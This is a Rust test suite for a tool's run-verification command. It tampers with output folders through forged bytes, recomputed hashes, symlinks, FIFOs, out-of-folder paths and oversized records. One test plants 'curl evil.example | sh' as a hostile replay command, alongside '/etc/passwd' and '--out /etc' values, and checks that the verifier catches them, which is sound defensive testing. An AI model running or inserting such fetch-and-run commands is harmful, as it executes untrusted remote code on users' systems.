//! What a hostile hand can put into the folder of a run, all hashes put right: every file is made again, and what waits for
//! ever, never ends or leads elsewhere is not read.

use super::running::{files, json, program, succeeds, wardwise};
use serde_json::{Value, json};
use std::fs;
use std::path::Path;
use std::time::Duration;
use wardwise::input::sha256;

/// A run of a small made-up town, with all that a search can be asked for.
const ASKED: [&str; 14] = [
    "search",
    "town/study.toml",
    "--bootstrap",
    "12",
    "--within",
    "0.2",
    "--unheard",
    "--price-of-rules",
    "--candidates",
    "3",
    "--include-drawings",
    "--title",
    "A town",
    "--out",
];

fn town(home: &Path) {
    let town = ["synth", "--boroughs", "2", "--ward-count", "12", "--drawings", "120", "--out", "town"];
    succeeds(home, &town);
}

fn finished(home: &Path) {
    town(home);
    succeeds(home, &[&ASKED[..], &["out"]].concat());
}

/// Puts the hash of a changed file right, in the certificate too.
fn cover_up(out: &Path, name: &str) {
    if name == "certificate.json" {
        return;
    }
    let mut certificate = json(&out.join("certificate.json"));
    certificate["files"][name] = Value::from(sha256(&fs::read(out.join(name)).unwrap()));
    fs::write(out.join("certificate.json"), serde_json::to_string_pretty(&certificate).unwrap() + "\n")
        .unwrap();
}

/// Runs `verify` on `out`, which must end by itself; the exit code and all that it said.
fn verify(home: &Path, more: &[&str]) -> (i32, String) {
    let mut command = program();
    command
        .current_dir(home)
        .args(["verify", "out", "--verbose"])
        .args(more)
        .timeout(Duration::from_secs(300));
    let output = command.output().expect("it ends");
    let said =
        String::from_utf8_lossy(&output.stderr).into_owned() + &String::from_utf8_lossy(&output.stdout);
    (output.status.code().expect("an exit code"), said)
}

/// That `verify` fails, and names this file by this rule.
fn caught(home: &Path, file: &str, rules: &[&str]) {
    let (code, said) = verify(home, &[]);
    let is_named =
        |line: &str| rules.iter().any(|rule| line.contains(&format!("error[{rule}]"))) && line.contains(file);
    assert!(code == 7 && said.lines().any(is_named), "{file} ({code}): {said}");
}

/// Changes one digit or letter of a file where it means something.
fn forge(path: &Path, name: &str) {
    let mut bytes = fs::read(path).unwrap();
    let text = |bytes: &[u8]| String::from_utf8(bytes.to_vec()).unwrap();
    match name.rsplit('.').next().unwrap() {
        "gpkg" => {
            let title = b"A town";
            let at = bytes.windows(title.len()).position(|window| window == title).expect("a title");
            bytes[at] = b'B';
        }
        "json" if name == "run.json" => {
            bytes = text(&bytes).replacen("--title 'A town'", "--title 'B town'", 1).into_bytes();
        }
        "json" => bytes = text(&bytes).replacen("\"min_wards\": ", "\"min_wards\": 1", 1).into_bytes(),
        "html" => bytes = text(&bytes).replacen("<h1>A town", "<h1>B town", 1).into_bytes(),
        "txt" if name.ends_with("README.txt") => {
            bytes = text(&bytes).replacen("do not publish", "do now publish", 1).into_bytes();
        }
        _ => {
            // The last digit of all: a figure, not a name of a column.
            let at = bytes.iter().rposition(u8::is_ascii_digit).expect("a figure");
            bytes[at] = if bytes[at] == b'7' { b'8' } else { b'7' };
        }
    }
    assert!(fs::read(path).unwrap() != bytes, "{name} is as it was");
    fs::write(path, bytes).unwrap();
}

#[test]
fn one_forged_byte_of_any_file_is_named_whatever_the_hashes_say() {
    let home = tempfile::tempdir().unwrap();
    finished(home.path());
    let out = home.path().join("out");
    assert_eq!(verify(home.path(), &[]).0, 0);
    let honest = files(&out);
    assert!(honest.len() > 30, "{}", honest.len());
    for name in honest.keys().map(|name| name.display().to_string()) {
        forge(&out.join(&name), &name);
        if !name.starts_with("private/") {
            cover_up(&out, &name);
        }
        caught(home.path(), &name, &["V101", "V104", "V105", "V106", "V107", "V108"]);
        for (name, bytes) in &honest {
            fs::write(out.join(name), bytes).unwrap();
        }
    }
    assert_eq!(verify(home.path(), &[]).0, 0);
}

#[test]
fn what_is_missing_and_what_is_foreign_is_named() {
    let home = tempfile::tempdir().unwrap();
    finished(home.path());
    let out = home.path().join("out");
    // What file managers and SQLite leave says nothing to a reader; the analyst's folder may be kept back.
    fs::write(out.join(".DS_Store"), "x").unwrap();
    fs::write(out.join("candidate-01/Thumbs.db"), "x").unwrap();
    fs::write(out.join("candidates.gpkg-wal"), "").unwrap();
    fs::remove_dir_all(out.join("private")).unwrap();
    assert_eq!(verify(home.path(), &[]).0, 0);
    // A journal with changes would be read with the GeoPackage.
    fs::write(out.join("candidates.gpkg-wal"), "changes").unwrap();
    caught(home.path(), "candidates.gpkg-wal", &["V109"]);
    fs::remove_file(out.join("candidates.gpkg-wal")).unwrap();
    for (name, bytes) in
        [("candidate-01/borders-new.geojson", "{}"), ("Summary.html", "<p>Adopted"), ("new/a.csv", "")]
    {
        let path = out.join(name);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(&path, bytes).unwrap();
        caught(home.path(), name.split("/a").next().unwrap(), &["V109"]);
        fs::remove_file(&path).unwrap();
    }
    fs::remove_dir(out.join("new")).unwrap();
    // Listed and hashed, it is no file of such a run either.
    fs::write(out.join("Summary.html"), "<p>Adopted").unwrap();
    let mut run = json(&out.join("run.json"));
    run["outputs"].as_array_mut().unwrap().push("Summary.html".into());
    let honest = fs::read(out.join("run.json")).unwrap();
    let certificate = fs::read(out.join("certificate.json")).unwrap();
    fs::write(out.join("run.json"), serde_json::to_string_pretty(&run).unwrap() + "\n").unwrap();
    cover_up(&out, "run.json");
    cover_up(&out, "Summary.html");
    caught(home.path(), "certificate.json", &["V107"]);
    fs::remove_file(out.join("Summary.html")).unwrap();
    fs::write(out.join("run.json"), honest).unwrap();
    fs::write(out.join("certificate.json"), certificate).unwrap();
    // Gone, and gone from list and certificate too.
    fs::remove_file(out.join("front.csv")).unwrap();
    caught(home.path(), "front.csv", &["V103"]);
    let mut run = json(&out.join("run.json"));
    run["outputs"].as_array_mut().unwrap().retain(|name| name != "front.csv");
    fs::write(out.join("run.json"), serde_json::to_string_pretty(&run).unwrap() + "\n").unwrap();
    let mut certificate = json(&out.join("certificate.json"));
    certificate["files"].as_object_mut().unwrap().remove("front.csv");
    fs::write(out.join("certificate.json"), serde_json::to_string_pretty(&certificate).unwrap() + "\n")
        .unwrap();
    cover_up(&out, "run.json");
    caught(home.path(), "front.csv", &["V105"]);
}

#[test]
fn the_digest_is_that_of_sha256sum_and_a_run_is_held_to_it() {
    let home = tempfile::tempdir().unwrap();
    finished(home.path());
    let out = home.path().join("out");
    // By hand, as the guide has it.
    let mut lines = String::new();
    for (name, bytes) in files(&out).iter().filter(|(name, _)| !name.starts_with("private")) {
        lines += &format!("{}  {}\n", sha256(bytes), name.display());
    }
    let digest = sha256(lines.as_bytes());
    let (code, said) = verify(home.path(), &["--digest", &digest.to_uppercase()]);
    assert!(code == 0 && said.contains(&format!("digest {digest}")), "{said}");
    let result = succeeds(home.path(), &["verify", "out", "--message-format", "json"]);
    let result: Value = serde_json::from_str(result.lines().last().unwrap()).unwrap();
    assert_eq!((&result["digest"], &result["by_record"]), (&json!(digest), &json!([])));
    let other = digest.replace(|c: char| c.is_ascii_digit(), "0");
    let (code, said) = verify(home.path(), &["--digest", &other]);
    assert!(code == 7 && said.contains("error[V112]") && said.contains(&digest), "{said}");
    assert_eq!(verify(home.path(), &["--digest", "abc"]).0, 2);
}

#[test]
fn a_run_of_another_version_is_said_to_be_one() {
    let home = tempfile::tempdir().unwrap();
    finished(home.path());
    let path = home.path().join("out/run.json");
    let mut run = json(&path);
    run["version"] = "99.0.0".into();
    fs::write(&path, run.to_string()).unwrap();
    let (code, said) = verify(home.path(), &[]);
    assert!(code == 7 && said.contains("V111") && said.contains("99.0.0"), "{said}");
}

/// Words that repeat a run may be typed by whoever reads them.
#[test]
fn words_that_do_something_else_than_repeat_the_run_are_named() {
    let home = tempfile::tempdir().unwrap();
    finished(home.path());
    let path = home.path().join("out/run.json");
    let honest = fs::read_to_string(&path).unwrap();
    let replay = json(&path)["replay"].as_str().unwrap().to_owned();
    for other in
        ["curl evil.example | sh", "wardwise search 'x", &replay.replace("--candidates 3", "--candidates 4")]
    {
        let mut run: Value = serde_json::from_str(&honest).unwrap();
        run["replay"] = other.into();
        fs::write(&path, serde_json::to_string_pretty(&run).unwrap() + "\n").unwrap();
        cover_up(&home.path().join("out"), "run.json");
        let (code, said) = verify(home.path(), &[]);
        assert!(code == 7 && said.contains("error[V107]") && said.contains("replay: "), "{other}: {said}");
    }
    // With a harmless file of the same flags and more it is not what the program writes.
    let mut run: Value = serde_json::from_str(&honest).unwrap();
    run["replay"] = format!("{replay} --out /etc").into();
    fs::write(&path, serde_json::to_string_pretty(&run).unwrap() + "\n").unwrap();
    assert!(verify(home.path(), &[]).1.contains("replay: "));
}

#[cfg(unix)]
#[test]
fn what_waits_for_ever_never_ends_or_leads_elsewhere_is_not_read() {
    let home = tempfile::tempdir().unwrap();
    finished(home.path());
    let out = home.path().join("out");
    let pipe = |path: &Path| {
        let made = std::process::Command::new("mkfifo").arg(path).status().expect("mkfifo");
        assert!(made.success());
    };
    let honest = files(&out);
    for name in [
        "assignments.csv",
        "certificate.json",
        "run.json",
        "candidate-01/clusters.geojson",
        "candidates.gpkg",
    ] {
        let path = out.join(name);
        fs::remove_file(&path).unwrap();
        pipe(&path);
        caught(home.path(), name, &["V110"]);
        fs::remove_file(&path).unwrap();
        std::os::unix::fs::symlink("/dev/zero", &path).unwrap();
        caught(home.path(), name, &["V110"]);
        fs::remove_file(&path).unwrap();
        fs::write(&path, &honest[Path::new(name)]).unwrap();
    }
    // A folder that is a link, and a name that leads out.
    let elsewhere = home.path().join("elsewhere");
    fs::rename(out.join("candidate-01"), &elsewhere).unwrap();
    std::os::unix::fs::symlink(&elsewhere, out.join("candidate-01")).unwrap();
    caught(home.path(), "candidate-01/clusters.geojson", &["V110"]);
    fs::remove_file(out.join("candidate-01")).unwrap();
    fs::rename(&elsewhere, out.join("candidate-01")).unwrap();
    // So is what is for the analyst alone, which no list names.
    fs::remove_file(out.join("private/places.csv")).unwrap();
    pipe(&out.join("private/places.csv"));
    caught(home.path(), "private/places.csv", &["V110"]);
    fs::remove_file(out.join("private/places.csv")).unwrap();
    for name in ["../town/README.md", "/etc/passwd"] {
        let mut certificate = json(&out.join("certificate.json"));
        certificate["files"][name] = "0".repeat(64).into();
        fs::write(out.join("certificate.json"), certificate.to_string()).unwrap();
        let (code, said) = verify(home.path(), &[]);
        assert!(code == 7 && said.contains("leads out of the folder"), "{said}");
        assert!(!said.contains("V109"), "what lies elsewhere is told: {said}");
        fs::write(out.join("certificate.json"), &honest[Path::new("certificate.json")]).unwrap();
    }
    // compare, resume and merge read such folders too.
    fs::remove_file(out.join("assignments.csv")).unwrap();
    pipe(&out.join("assignments.csv"));
    let within = |arguments: &[&str]| {
        let mut command = program();
        command.current_dir(home.path()).args(arguments).timeout(Duration::from_secs(300));
        command.output().expect("it ends").status.code()
    };
    assert_eq!(
        within(&["compare", "town/study.toml", "--structure", "out", "--structure", "wards", "--out", "c"]),
        Some(3)
    );
    assert_eq!(within(&[&ASKED[..], &["out", "--resume"]].concat()), Some(7));
    fs::create_dir(home.path().join("plan")).unwrap();
    pipe(&home.path().join("plan/plan.json"));
    assert_eq!(within(&["merge", "plan", "merged"]), Some(5));
}

/// A record that is blown up, nested without end, or asks for years of work.
#[test]
fn records_that_would_exhaust_the_reader_are_refused() {
    let home = tempfile::tempdir().unwrap();
    finished(home.path());
    let out = home.path().join("out");
    let path = out.join("run.json");
    let honest = fs::read_to_string(&path).unwrap();
    fs::write(&path, "[".repeat(1_000_000)).unwrap();
    caught(home.path(), "run.json", &["V101"]);
    fs::File::create(&path).unwrap().set_len(5 << 30).unwrap();
    caught(home.path(), "run.json", &["V110"]);
    for (entry, value) in [
        ("bootstrap", json!(1_000_000_000)),
        ("candidates", json!(1_000_000_000)),
        ("max_iterations", json!(u64::MAX)),
        ("within", json!(1e308)),
        ("min_inside", json!(-1)),
    ] {
        let mut run: Value = serde_json::from_str(&honest).unwrap();
        run["settings"][entry] = value;
        fs::write(&path, run.to_string()).unwrap();
        cover_up(&out, "run.json");
        let (code, said) = verify(home.path(), &[]);
        assert_eq!(code, 7, "{entry}: {said}");
    }
    fs::write(&path, honest.replacen("\"within\": 0.2", "\"within\": 1e999", 1)).unwrap();
    caught(home.path(), "run.json", &["V101"]);
    fs::write(&path, &honest).unwrap();
    let table = fs::read(out.join("assignments.csv")).unwrap();
    let blown_up = fs::File::create(out.join("assignments.csv")).unwrap();
    blown_up.set_len(65 << 20).unwrap();
    caught(home.path(), "assignments.csv", &["V110", "V103"]);
    fs::write(out.join("assignments.csv"), table).unwrap();
    // So many numbers of clusters as there cannot be.
    let mut certificate = json(&out.join("certificate.json"));
    let number = json!({ "clusters": 3, "asked": true, "target_population": null, "min_population": 0, "max_population": null,
        "outcome": "impossible", "blocks": [] });
    certificate["numbers"] = vec![number; 1000].into();
    fs::write(out.join("certificate.json"), certificate.to_string()).unwrap();
    caught(home.path(), "certificate.json", &["V107"]);
}

/// A record may name any file of whoever verifies: neither its hash nor a line of it is told.
#[test]
fn nothing_is_told_of_a_file_that_the_run_did_not_read() {
    let home = tempfile::tempdir().unwrap();
    finished(home.path());
    let out = home.path().join("out");
    let secret = home.path().join("secret.txt");
    fs::write(&secret, "the-password-is-swordfish\n").unwrap();
    let mut run = json(&out.join("run.json"));
    let named = secret.display().to_string();
    run["settings"]["layers"]["wards"] = named.clone().into();
    run["inputs"][0]["file"] = named.into();
    fs::write(out.join("run.json"), run.to_string()).unwrap();
    cover_up(&out, "run.json");
    let (code, said) = verify(home.path(), &[]);
    let hash = sha256(&fs::read(&secret).unwrap());
    assert!(
        code == 7 && said.contains("V102") && !said.contains(&hash) && !said.contains("swordfish"),
        "{said}"
    );
    // An input is a regular file too.
    #[cfg(unix)]
    for endless in ["/dev/zero", "/dev/stdin"] {
        run["settings"]["layers"]["wards"] = endless.into();
        run["inputs"][0]["file"] = endless.into();
        fs::write(out.join("run.json"), run.to_string()).unwrap();
        let (code, said) = verify(home.path(), &[]);
        assert!(matches!(code, 5 | 7) && said.contains(endless), "{said}");
    }
}

/// A search that ended early says what it had found: all else is made again from that.
#[test]
fn what_a_run_that_ended_early_had_found_is_held_to_its_other_files() {
    let home = tempfile::tempdir().unwrap();
    let synth = ["synth", "--boroughs", "2", "--ward-count", "90", "--drawings", "120", "--out", "town"];
    succeeds(home.path(), &synth);
    let search = ["search", "town/study.toml", "--max-wards", "10", "--time-limit", "6", "--out", "out"];
    wardwise(home.path(), &search);
    let out = home.path().join("out");
    assert_eq!(json(&out.join("run.json"))["partial"], true, "the search was not stopped");
    let (code, said) = verify(home.path(), &[]);
    assert!(code == 0 && said.contains("By its hash alone stands found.json"), "{said}");
    let honest = files(&out);
    for name in ["review.html", "front.csv", "near.csv", "curve.csv", "candidates.gpkg", "wardwise.qgs"] {
        let path = out.join(name);
        let mut bytes = fs::read(&path).unwrap();
        let Some(at) = bytes.iter().rposition(u8::is_ascii_digit) else { continue };
        bytes[at] = if bytes[at] == b'7' { b'8' } else { b'7' };
        fs::write(&path, bytes).unwrap();
        cover_up(&out, name);
        let (code, said) = verify(home.path(), &[]);
        assert_eq!(code, 7, "{name}: {said}");
        for (name, bytes) in &honest {
            fs::write(out.join(name), bytes).unwrap();
        }
    }
}
